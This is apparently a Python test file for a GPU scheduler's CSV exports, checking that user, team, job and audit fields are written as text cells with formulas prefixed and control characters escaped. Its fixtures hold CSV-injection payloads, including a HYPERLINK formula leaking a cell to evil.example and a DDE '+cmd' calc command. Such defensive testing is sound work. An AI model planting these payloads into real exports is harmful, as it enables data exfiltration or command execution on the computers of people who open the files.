"""s30 (closing note 29): every CSV export wrote its fields as stored. A user, team or job named ``=HYPERLINK(…)``,
``+cmd``, ``-2+3``, ``@SUM(…)`` or starting with TAB/CR is a formula when an admin opens ``audit --csv``,
``usage --csv`` (``GET usage/report?format=csv``) or ``simulate --out``'s files in Excel or LibreOffice (OWASP "CSV
injection"), and control, bidirectional and invisible characters reached the spreadsheet and the terminal as they
were. Now one CSV writer (:func:`jupyter_sched.textsafe.csv_text`, the ``csv`` module) writes every export: a text
cell starting ``= + - @`` TAB CR is prefixed with an apostrophe, controls are escaped, numbers stay numbers (a
negative number is not a name).

Each export is read back with the ``csv`` module. Real parts: ``build_services`` on a SQLite store and its
accounting service (the REST answer's CSV); the CLI's ``audit`` over a client double at the wire; ``simulate --out``.
"""

from __future__ import annotations

import argparse
import csv
import io
from datetime import datetime, timedelta, timezone
from pathlib import Path
from types import SimpleNamespace
from typing import Any

from jupyter_sched.cli.admin_views import audit
from jupyter_sched.services import build_services
from jupyter_sched.services.models import GetUsageReportRequest
from jupyter_sched.sim.cli import main as sim_main
from jupyter_sched.textsafe import csv_text, spreadsheet_cell

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
HOSTILE = {  # stored name -> the cell a spreadsheet reads back (never a formula; controls escaped)
    FORMULA: "'" + FORMULA,
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd": "'@SUM(1+1)*cmd",
    "\tx": "'\tx",
    "\r=1": "\\x0d=1",
    "amy\u200b": "amy\\u200b",
    "\u202eevil": "\\u202eevil",
    "red\x1b[31m": "red\\x1b[31m",
    "\uff1d1+1": "'\uff1d1+1",
}


def _read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_red30_csv_the_one_writer_prefixes_formulas_escapes_controls_and_keeps_numbers() -> None:
    text = csv_text(["name", "n", "x", "f"], [[stored, -3, -2.5, None] for stored in HOSTILE])
    rows = _read(text)
    assert [r["name"] for r in rows] == list(HOSTILE.values()), rows
    assert {(r["n"], r["x"], r["f"]) for r in rows} == {("-3", "-2.5", "")}  # numbers stay numbers
    assert "\x1b" not in text and "\u202e" not in text and "\u200b" not in text and "\r" not in text
    assert spreadsheet_cell(float("nan")) == "" and spreadsheet_cell(True) == "True" and spreadsheet_cell(0) == 0
    assert spreadsheet_cell("ana") == "ana" and spreadsheet_cell("2026-12-06T05:00:00Z") == "2026-12-06T05:00:00Z"


def test_red30_csv_usage_report_names_are_text_cells_not_formulas(tmp_path: Path) -> None:
    """Failed before: ``GET usage/report?format=csv`` wrote the user and team as stored (``=HYPERLINK(…)``)."""
    services = build_services({"db_url": f"sqlite:///{tmp_path / 'sched.sqlite'}", "log_dir": str(tmp_path / "logs"),
                               "inventory_source": "simulated", "simulated_gpus": 2, "telemetry_source": "off",
                               "gpu_prices": {"*": 2.5}, "gpu_price_unit": "EUR"})
    try:
        start = datetime.now(timezone.utc).replace(microsecond=0) - timedelta(hours=3)
        with services.store.transaction(now=start) as tx:
            tx.open_usage(job_id="j-1", attempt=1, user=FORMULA, team="@ops", kind="training",
                          gpus=[("GPU-0", "A100", 1.0)], started_at=start)
            tx.close_usage("j-1", start + timedelta(hours=2))
        boss = services.caller("boss", admin=True)
        request = GetUsageReportRequest(all=True, by="user,team", format="csv")  # type: ignore[call-arg]
        (row,) = _read(services.accounting.report_csv(services.accounting.report(boss, request), request))
    finally:
        services.store.close()
    assert (row["user"], row["team"]) == ("'" + FORMULA, "'@ops"), row
    assert (row["allocated_gpu_hours"], row["cost"], row["cost_unit"], row["jobs"]) == ("2.0", "5.0", "EUR", "1"), row


class _AuditWire:
    def __init__(self, rows: list[dict[str, Any]]) -> None:
        self.rows = rows

    def call(self, req: Any) -> Any:
        assert req.path == "audit", req
        return self.rows


def test_red30_csv_audit_csv_actor_user_job_and_message_are_never_formulas() -> None:
    """Failed before: ``audit --csv`` wrote the actor, user and message as stored."""
    rows = [{"id": i + 1, "at": "2026-12-06T09:00:00Z", "actor": stored, "action": "submit", "user": stored,
             "job_id": "j-1", "message": f"submitted {stored}" if i % 2 else stored, "details": {"name": stored}}
            for i, stored in enumerate(HOSTILE)]
    out = io.StringIO()
    args = argparse.Namespace(limit=100, action=None, user=None, actor=None, job=None, since=None, until=None,
                              exclude=None, json=False, csv=True)
    assert audit(_AuditWire(rows), args, SimpleNamespace(out=out, err=io.StringIO())) == 0
    back = _read(out.getvalue())
    assert [r["actor"] for r in back] == list(HOSTILE.values()), back
    assert [r["user"] for r in back] == list(HOSTILE.values()), back
    assert back[0]["message"] == "'" + FORMULA and back[1]["message"].startswith("submitted +cmd"), back[:2]
    assert [r["id"] for r in back] == [str(i + 1) for i in range(len(HOSTILE))]
    assert all(not r["details"].startswith(("=", "+", "-", "@")) for r in back)
    assert "\x1b" not in out.getvalue() and "\u202e" not in out.getvalue()


def test_red30_csv_simulate_out_files_write_scenario_names_as_text(tmp_path: Path) -> None:
    """Failed before: ``simulate --out``'s jobs.csv and teams.csv wrote a scenario's job, user and team names as
    written (a scenario is a file anyone can edit, or ``usage --as-scenario``'s export of the hub's names)."""
    scenario = tmp_path / "names.yaml"
    scenario.write_text('name: names\ncluster: {nodes: 1, gpus_per_node: 2}\njobs:\n'
                        '  - {name: "=HYPERLINK(\\"x\\")", user: "-ann", team: "@ops", gpus: 1, submit: 0m, '
                        'runtime: 10m, time_limit: 10m}\n'
                        '  - {name: b, user: bob, team: ml, gpus: 2, submit: 1m, runtime: 5m, time_limit: 5m}\n',
                        encoding="utf-8")
    assert sim_main(["simulate", str(scenario), "--out", str(tmp_path / "out")], out=io.StringIO(),
                    err=io.StringIO()) == 0
    jobs = _read((tmp_path / "out" / "jobs.csv").read_text(encoding="utf-8"))
    assert [(j["name"], j["user"], j["team"]) for j in jobs] == [("'=HYPERLINK(\"x\")", "'-ann", "'@ops"),
                                                                  ("b", "bob", "ml")], jobs
    assert (jobs[0]["gpus"], jobs[0]["jct_s"]) == ("1.0", "600.0"), jobs[0]  # numbers as DataFrame.to_csv writes them
    teams = _read((tmp_path / "out" / "teams.csv").read_text(encoding="utf-8"))
    assert sorted(t["team"] for t in teams) == ["'@ops", "ml"], teams
